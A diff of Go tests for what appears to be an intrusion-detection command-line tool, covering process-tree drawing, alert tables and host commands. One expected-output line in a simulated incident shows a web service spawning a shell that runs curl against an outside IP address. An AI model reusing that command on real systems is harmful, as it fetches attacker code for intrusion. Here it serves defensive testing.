@@ -131,14 +131,14 @@ func TestTablesAreForPeople(t *testing.T) {
 	for _, part := range []string{
 		"Web service java on web-1 was made to run commands", "open, level critical, score 97",
 		"\n  1 /sbin/init (root)\n    2210 java -jar /opt/shop/api.jar (app)\n      31007 /bin/sh -c curl http://203.0.113.9/t",
-		"31015 [kworker/14:1] (app)  [3 alerts]", "same_service", "persistence  not_seen",
+		"31015 [kworker/14:1] (app)  [3 alerts]", "file_flow", "persistence  not_seen",
 	} {
 		if !strings.Contains(shown, part) {
 			t.Errorf("%q is missing in\n%s", part, shown)
 		}
 	}
 	for args, want := range map[string]string{
-		"hosts": "web-1", "hosts list": "away", "hosts show " + story.DatabaseHost: "not supported by this kernel",
+		"hosts": "web-1", "hosts list": "away       unknown", "hosts show " + story.DatabaseHost: "not supported by this kernel",
 		"status": "2 connected, 2 armed", "alerts": "Process disguised as a kernel thread", "incidents": story.KeyFinding,
 		"hosts ping " + story.WebHost: "done in 3.2 ms", "hosts revoke " + story.WebHost: "revoked", "tokens list": "EXPIRES",
 	} {
@@ -273,8 +273,8 @@ func TestSizes(t *testing.T) {
 // A list that is not in order, or turns in a circle, is drawn once and ends.
 func TestForestOfForeignShapeEnds(t *testing.T) {
 	var out bytes.Buffer
-	printForest(&out, []process{{Key: "a", Parent: "a", PID: 1, Executable: "/a"}, {Key: "b", Parent: "gone", PID: 2}, {Key: "c", Parent: "b", PID: 3, Alerts: []string{"x"}}})
-	if want := "  1 /a (-)\n  2 - (-)\n    3 - (-)  [1 alerts]\n"; out.String() != want {
+	printForest(&out, []process{{Key: "a", Parent: "a", PID: 1, Executable: "/a"}, {Key: "b", Parent: "gone", PID: 2, CommandLine: "/b", User: "root"}, {Key: "c", Parent: "b", PID: 3, Alerts: []string{"x"}}})
+	if want := "  1 /a\n  2 /b (root)\n    3 (not seen: older than the agent, or outside its scope)  [1 alerts]\n"; out.String() != want {
 		t.Errorf("drew\n%s", out.String())
 	}
 }
